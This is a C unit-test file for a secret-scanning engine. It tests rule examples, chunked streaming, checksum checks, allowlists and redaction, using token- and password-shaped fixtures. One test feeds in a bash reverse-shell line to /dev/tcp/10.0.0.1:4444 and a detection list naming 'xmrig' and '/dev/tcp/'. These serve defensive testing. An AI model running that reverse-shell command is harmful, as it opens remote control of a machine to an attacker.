/* SPDX-License-Identifier: Apache-2.0 */
/* Every built-in rule's examples: each positive is found by that rule, no negative is found by
 * it. Also the engine's streaming: a secret split across chunks is still found. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include <hs/hs.h>

#include "secrets/secrets.h"

struct hits {
    char ids[64][64];
    char secrets[64][256];
    uint64_t lines[64];
    size_t lens[64];
    bool weak[64];
    size_t n;
};

static int collect(void *ctx, const struct customs_secret_match *m)
{
    struct hits *h = ctx;
    if (h->n < 64) {
        snprintf(h->ids[h->n], sizeof(h->ids[0]), "%s", m->rule->id);
        snprintf(h->secrets[h->n], sizeof(h->secrets[0]), "%.*s", (int)m->secret_len, m->secret);
        h->lines[h->n] = m->line;
        h->lens[h->n] = m->secret_len;
        h->weak[h->n] = m->weak;
        h->n++;
    }
    return 0;
}

/* Scan the C string `text` as the file `path`, adding what is found to `h`. */
static void scan_text(struct customs_secret_scanner *sc, const char *path, const char *text,
                      struct hits *h)
{
    assert_int_equal(customs_secret_scan_buffer(sc, path, text, strlen(text), collect, h), 0);
}

static struct customs_secret_engine *engine;
static struct customs_secret_scanner *scanner;

static int setup(void **state)
{
    struct customs_error err = {0};
    (void)state;
    if (customs_secret_engine_new(&engine, NULL, NULL, &err) != 0) {
        fprintf(stderr, "engine: %s\n", err.message);
        return -1;
    }
    return customs_secret_scanner_new(&scanner, engine);
}

static int teardown(void **state)
{
    (void)state;
    customs_secret_scanner_free(scanner);
    customs_secret_engine_free(engine);
    return 0;
}

static bool has(const struct hits *h, const char *id)
{
    for (size_t i = 0; i < h->n; i++) {
        if (strcmp(h->ids[i], id) == 0) {
            return true;
        }
    }
    return false;
}

static void rules__every_example_behaves_as_its_rule_says(void **state)
{
    size_t n = customs_secret_rule_count(engine);
    size_t pos = 0, neg = 0, failures = 0;
    (void)state;
    assert_true(n >= 80);
    for (size_t i = 0; i < n; i++) {
        const struct customs_secret_rule *r = customs_secret_rule_at(engine, i);
        if (r->npositive == 0 || r->nnegative == 0) {
            printf("# rule %s has no positive or no negative example\n", r->id);
            failures++;
        }
        for (size_t j = 0; j < r->npositive; j++, pos++) {
            struct hits h = {0};
            scan_text(scanner, "/app/.env", r->positive[j], &h);
            if (!has(&h, r->id)) {
                printf("# %s: positive example not found: %s\n", r->id, r->positive[j]);
                failures++;
            }
        }
        for (size_t j = 0; j < r->nnegative; j++, neg++) {
            struct hits h = {0};
            scan_text(scanner, "/app/.env", r->negative[j], &h);
            if (has(&h, r->id)) {
                printf("# %s: negative example found: %s\n", r->id, r->negative[j]);
                failures++;
            }
        }
    }
    printf("# %zu rules, %zu positive and %zu negative examples, %zu failures\n", n, pos, neg,
           failures);
    assert_int_equal(failures, 0);
}

/* `text` fed in two chunks at every 7th split: its one GitHub token on line 3. */
static void expect_token_on_line_3(const char *text)
{
    struct hits h = {0};
    size_t len = strlen(text);
    for (size_t split = 1; split < len; split += 7) {
        memset(&h, 0, sizeof(h));
        assert_int_equal(customs_secret_begin(scanner, "/app/.env", len), 0);
        assert_int_equal(customs_secret_feed(scanner, text, split), 0);
        assert_int_equal(customs_secret_feed(scanner, text + split, len - split), 0);
        assert_int_equal(customs_secret_end(scanner, collect, &h), 0);
        assert_int_equal(h.n, 1);
        assert_string_equal(h.ids[0], "github-pat");
        assert_string_equal(h.secrets[0], "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");
        assert_int_equal(h.lines[0], 3);
    }
}

static void engine__finds_a_secret_split_across_chunks_with_its_line(void **state)
{
    const char *text = "line one\nline two\nexport GITHUB_TOKEN=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\n";
    const char *grown = "\nexport GITHUB_TOKEN=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\n";
    struct hits h = {0};
    size_t len = strlen(text);
    (void)state;
    expect_token_on_line_3(text);
    /* without the final newline: a match at the very end of a file is reported when its
     * stream closes, with the newlines of the last chunk counted */
    char cut[128];
    assert_true(len < sizeof(cut));
    memcpy(cut, text, len - 1);
    cut[len - 1] = '\0';
    expect_token_on_line_3(cut);
    /* bytes past the stated size (a file that grew while it was read) are not scanned */
    assert_int_equal(customs_secret_begin(scanner, "/app/.env", len), 0);
    assert_int_equal(customs_secret_feed(scanner, text, len), 0);
    assert_int_equal(customs_secret_feed(scanner, grown, strlen(grown)), 0);
    assert_int_equal(customs_secret_end(scanner, collect, &h), 0);
    assert_int_equal(h.n, 1);
    assert_int_equal(h.lines[0], 3);
}

static void engine__skips_text_rules_in_binary_files_and_docs_paths(void **state)
{
    static const char bin[] = "\0\0\0db_password = \"Zq8vKr2LmW4pTx\"\0";
    struct hits h = {0};
    (void)state;
    assert_int_equal(customs_secret_scan_buffer(scanner, "/usr/bin/x", bin, sizeof(bin), collect,
                                                &h),
                     0);
    assert_int_equal(h.n, 0);
    const char *txt = "db_password = \"Zq8vKr2LmW4pTx\"\n";
    scan_text(scanner, "/app/config.py", txt, &h);
    assert_int_equal(h.n, 1);
    memset(&h, 0, sizeof(h));
    scan_text(scanner, "/app/node_modules/x/README.md", txt, &h);
    assert_int_equal(h.n, 0);
}

/* The same user name and password pair is a credential in a configuration file and a variable
 * in a program, where only a quoted value is a literal. */
static void engine__takes_unquoted_pairs_only_outside_source_files(void **state)
{
    const char *ini = "user = mailer\npassword = lamp_post\n";
    const char *quoted = "user = \"mailer\"\npassword = \"lamp_post\"\n";
    struct hits h = {0};
    (void)state;
    scan_text(scanner, "/etc/app/smtp.conf", ini, &h);
    assert_int_equal(h.n, 1);
    assert_string_equal(h.ids[0], "generic-credential-pair");
    memset(&h, 0, sizeof(h));
    scan_text(scanner, "/app/mail.py", ini, &h);
    assert_int_equal(h.n, 0);
    scan_text(scanner, "/app/mail.py", quoted, &h);
    assert_int_equal(h.n, 1);
}

/* In a credential structure a dictionary word is a credential, reported as weak; the slot's own
 * name and fillers are not; outside one (a bare assignment) the word is dropped. */
static void engine__reports_weak_values_only_in_credential_structures(void **state)
{
    static const struct {
        const char *text;
        int found; /* -1: nothing, 0: a finding, 1: a weak finding */
    } cases[] = {
        {"DATABASE_URL=postgresql://app:secret@db.internal/app\n", 1},
        {"DATABASE_URL=postgresql://app:Kq8vTz2LmW@db.internal/app\n", 0},
        {"DATABASE_URL=postgresql://user:password@db.internal/app\n", -1},
        {"DATABASE_URL=postgresql://app:aaaaaa@db.internal/app\n", -1},
        {"Server=db01;User ID=app;Password=admin;Database=x\n", 1},
        {"[smtp]\nuser = mailer\npassword = thisismypassword\n", 1},
        {"[smtp]\nuser = mailer\npassword = password\n", -1},
        {"The default password is 'admin'.\n", 1},
        {"password = \"secret\"\n", -1},
    };
    (void)state;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct hits h = {0};
        scan_text(scanner, "/etc/app/app.conf", cases[i].text, &h);
        if (cases[i].found < 0 ? h.n != 0 : h.n != 1 || h.weak[0] != (cases[i].found == 1)) {
            fail_msg("%s: %zu findings, the first %s", cases[i].text, h.n,
                     h.n > 0 && h.weak[0] ? "weak" : "not weak");
        }
    }
}

/* A ghp_ token whose CRC32 is wrong is no token: the catch-all rules that would report its
 * value under a secret-looking name drop it too. With the right checksum it is reported once,
 * by the GitHub rule. */
static void engine__a_failed_checksum_silences_the_catch_alls(void **state)
{
    const char *bad = "GITHUB_TOKEN=ghp_XIxB7KMNdAr3zqWtQqhE94qglHqOzn1D1stg\n";
    const char *good = "GITHUB_TOKEN=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\n";
    struct hits h = {0};
    (void)state;
    scan_text(scanner, "/app/.env", bad, &h);
    assert_int_equal(h.n, 0);
    scan_text(scanner, "/app/.env", good, &h);
    assert_int_equal(h.n, 1);
    assert_string_equal(h.ids[0], "github-pat");
}

/* A JWT of 1.5 KiB, then a short one of the same rule in the same chunk: each is confirmed whole
 * (a rule's candidate grows end by end; the second must not cut the first short). */
static void engine__confirms_long_matches_and_each_match_of_a_rule(void **state)
{
    static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    char text[4096];
    size_t o = 0;
    unsigned x = 12345;
    struct hits h = {0};
    (void)state;
    o += (size_t)snprintf(text + o, sizeof(text) - o, "a = \"eyJhbGciOiJSUzI1NiJ9.eyJ");
    for (int i = 0; i < 1500; i++) {
        x = x * 1103515245u + 12345u;
        text[o++] = b64[(x >> 16) % 64];
    }
    o += (size_t)snprintf(text + o, sizeof(text) - o,
                          ".Qm9yZGVyQ29sbGllU2lnbmF0dXJl\"\nb = \"eyJhbGciOiJIUzI1NiJ9."
                          "eyJzdWIiOiJvcHMtYm90In0.Zk3q9LvT2wRm8xNc4bYp\"\n");
    assert_int_equal(customs_secret_scan_buffer(scanner, "/app/config.py", text, o, collect, &h),
                     0);
    assert_int_equal(h.n, 2);
    assert_string_equal(h.ids[0], "jwt");
    assert_int_equal(h.lens[0], 1500 + 53);
    assert_int_equal(h.lens[1], 65);
}

/* Built-in rules compile their confirmation regexes at their first candidate; every one of
 * them must compile (and have the group it names), and a user's rule file with a pattern
 * POSIX refuses is an error naming the rule before any scan. */
static void engine__every_rule_regex_compiles_and_bad_user_rules_fail_early(void **state)
{
    struct customs_error err = {0};
    struct customs_secret_engine *e = NULL;
    (void)state;
    assert_int_equal(customs_secret_engine_new(&e, NULL, NULL, &err), 0);
    assert_int_equal(customs_secret_engine_check(e, &err), 0);
    customs_secret_engine_free(e);
    char path[] = "/tmp/customs-rules-XXXXXX";
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    static const char bad[] = "rules:\n  - id: bad-group\n    title: A rule\n    severity: LOW\n"
                              "    pattern: 'tok_[a-z]{8}'\n    group: 2\n"
                              "    examples:\n      positive: ['tok_abcdefgh']\n";
    assert_int_equal(write(fd, bad, sizeof(bad) - 1), (ssize_t)(sizeof(bad) - 1));
    close(fd);
    assert_int_equal(customs_secret_engine_new(&e, path, NULL, &err), CUSTOMS_EMALFORMED);
    assert_non_null(strstr(err.message, "bad-group"));
    unlink(path);
}

static char *write_temp(const char *text)
{
    static char path[64];
    snprintf(path, sizeof(path), "/tmp/customs-rules-XXXXXX");
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
    close(fd);
    return path;
}

/* A user's rule file may allow paths (globs), switch rules off and allow exact values; an
 * allowlisted rule id that names no rule fails at start-up. */
static void engine__the_allowlist_skips_paths_rules_and_values(void **state)
{
    static const char allow[] =
        "allowlist:\n"
        "  paths: ['/srv/app/fixtures/*', '*.sample']\n"
        "  rules: [generic-password-assignment]\n"
        "  values: ['AIzaSyA8vQz2LmWx4RpN7cYb3HdJ5fGs1Ae6Wk3']\n";
    const char *key = "GOOGLE_MAPS_KEY=AIzaSyA8vQz2LmWx4RpN7cYb3HdJ5fGs1Ae6Wk3\n";
    const char *other = "GOOGLE_MAPS_KEY=AIzaSyQ7vLz2Wm4Rk8Tq3Np6Xc9Bd1Fg5Hj0Kl-\n";
    const char *pw = "db_password = \"Zq8vKr2LmW4pTx\"\n";
    const char *aws = "aws_access_key_id = AKIA7KLFYYLBEG3RHDSV\n";
    struct customs_error err = {0};
    struct customs_secret_engine *e = NULL;
    struct customs_secret_scanner *sc = NULL;
    struct hits h = {0};
    (void)state;
    char *path = write_temp(allow);
    assert_int_equal(customs_secret_engine_new(&e, path, NULL, &err), 0);
    unlink(path);
    assert_int_equal(customs_secret_scanner_new(&sc, e), 0);
    scan_text(sc, "/srv/app/fixtures/keys/aws.txt", aws, &h);
    scan_text(sc, "/etc/app.conf.sample", aws, &h);
    scan_text(sc, "/etc/app.conf", pw, &h);
    scan_text(sc, "/etc/app.env", key, &h);
    assert_int_equal(h.n, 0);
    scan_text(sc, "/etc/app.env", other, &h);
    scan_text(sc, "/srv/app/keys/aws.txt", aws, &h);
    assert_int_equal(h.n, 2);
    assert_string_equal(h.ids[0], "gcp-api-key");
    assert_string_equal(h.ids[1], "aws-access-key-id");
    customs_secret_scanner_free(sc);
    customs_secret_engine_free(e);
    path = write_temp("allowlist:\n  rules: [generic-pasword-assignment]\n");
    assert_int_equal(customs_secret_engine_new(&e, path, NULL, &err), CUSTOMS_EMALFORMED);
    assert_non_null(strstr(err.message, "generic-pasword-assignment"));
    unlink(path);
    path = write_temp("allowlist:\n  path: ['/x']\n");
    assert_int_equal(customs_secret_engine_new(&e, path, NULL, &err), CUSTOMS_EMALFORMED);
    assert_non_null(strstr(err.message, ":2:"));
    unlink(path);
}

/* Which literals a scan reported, and how often. */
struct lit_hits {
    unsigned count[4];
};

static void on_lit(void *ctx, size_t k)
{
    struct lit_hits *l = ctx;
    assert_true(k < 4);
    l->count[k]++;
}

/* Stream `n` bytes as `path` in chunks of `step`, counting literal and secret hits. */
static void stream_lits(struct customs_secret_scanner *sc, const char *path, const char *p,
                        size_t n, size_t step, struct lit_hits *l, struct hits *h)
{
    memset(l, 0, sizeof(*l));
    customs_secret_on_literal(sc, on_lit, l);
    assert_int_equal(customs_secret_begin(sc, path, n), 0);
    for (size_t off = 0; off < n; off += step) {
        assert_int_equal(customs_secret_feed(sc, p + off, n - off < step ? n - off : step), 0);
    }
    assert_int_equal(customs_secret_end(sc, collect, h), 0);
}

/* Another analyzer's literals ride in the rules' pass: each is reported once per file where it
 * occurs (caseless when asked, across chunks, in binary files too, NUL bytes and regex
 * characters taken literally), not in files that are not streamed, and the secrets found are
 * those of the engine without them. */
static void engine__reports_the_callers_literals_beside_the_secrets(void **state)
{
    static const char *const texts[] = {"xmrig", "a\0b", "/dev/tcp/", "(.*)"};
    static const size_t lens[] = {5, 3, 9, 4};
    static const unsigned flags[] = {HS_FLAG_CASELESS, 0, 0, 0};
    const struct customs_secret_literals lits = {4, texts, lens, flags};
    struct customs_secret_engine *e = NULL;
    struct customs_secret_scanner *sc = NULL;
    struct customs_error err = {0};
    struct lit_hits l;
    struct hits h = {0}, plain = {0};
    (void)state;
    assert_int_equal(customs_secret_engine_new_with(&e, NULL, NULL, &lits, &err), 0);
    assert_int_equal(customs_secret_scanner_new(&sc, e), 0);
    const char *txt = "XMRig here, xmrig there\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
                      "db_password = \"Zq8vKr2LmW4pTx\"\n";
    for (size_t step = 1; step <= strlen(txt); step += 7) {
        memset(&h, 0, sizeof(h));
        stream_lits(sc, "/app/config.py", txt, strlen(txt), step, &l, &h);
        assert_int_equal(l.count[0], 1);
        assert_int_equal(l.count[1], 0);
        assert_int_equal(l.count[2], 1);
        assert_int_equal(l.count[3], 0);
        assert_int_equal(h.n, 1);
        assert_string_equal(h.ids[0], "generic-password-assignment");
        assert_true(customs_secret_streams_literals(sc));
    }
    scan_text(scanner, "/app/config.py", txt, &plain);
    assert_int_equal(plain.n, 1);
    assert_string_equal(plain.ids[0], h.ids[0]);
    assert_int_equal(plain.lines[0], h.lines[0]);
    /* a binary file: key material only, but every literal */
    static const char bin[] = "\0ELF a\0b (.*) /dev/tcp db_password = \"Zq8vKr2LmW4pTx\"\0";
    memset(&h, 0, sizeof(h));
    stream_lits(sc, "/usr/bin/x", bin, sizeof(bin), 5, &l, &h);
    assert_int_equal(l.count[0], 0);
    assert_int_equal(l.count[1], 1);
    assert_int_equal(l.count[2], 0);
    assert_int_equal(l.count[3], 1);
    assert_int_equal(h.n, 0);
    /* a documentation path is not streamed: the caller searches its literals itself */
    stream_lits(sc, "/usr/share/doc/x/README", txt, strlen(txt), 64, &l, &h);
    assert_false(customs_secret_streams_literals(sc));
    assert_int_equal(l.count[0] + l.count[2], 0);
    /* without literals: nothing to report, and the scanner says so */
    assert_int_equal(customs_secret_begin(scanner, "/app/config.py", 3), 0);
    assert_false(customs_secret_streams_literals(scanner));
    assert_int_equal(customs_secret_end(scanner, collect, &h), 0);
    customs_secret_scanner_free(sc);
    customs_secret_engine_free(e);
}

static void redact__keeps_a_few_characters_and_the_length(void **state)
{
    char out[64];
    (void)state;
    customs_secret_redact(out, sizeof(out), "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", 40);
    assert_string_equal(out, "ghp_\xe2\x80\xa6 (40 chars)");
    customs_secret_redact(out, sizeof(out), "short", 5);
    assert_string_equal(out, "\xe2\x80\xa6 (5 chars)");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(rules__every_example_behaves_as_its_rule_says),
        cmocka_unit_test(engine__finds_a_secret_split_across_chunks_with_its_line),
        cmocka_unit_test(engine__skips_text_rules_in_binary_files_and_docs_paths),
        cmocka_unit_test(engine__takes_unquoted_pairs_only_outside_source_files),
        cmocka_unit_test(engine__a_failed_checksum_silences_the_catch_alls),
        cmocka_unit_test(engine__reports_weak_values_only_in_credential_structures),
        cmocka_unit_test(engine__confirms_long_matches_and_each_match_of_a_rule),
        cmocka_unit_test(engine__every_rule_regex_compiles_and_bad_user_rules_fail_early),
        cmocka_unit_test(engine__the_allowlist_skips_paths_rules_and_values),
        cmocka_unit_test(engine__reports_the_callers_literals_beside_the_secrets),
        cmocka_unit_test(redact__keeps_a_few_characters_and_the_length),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
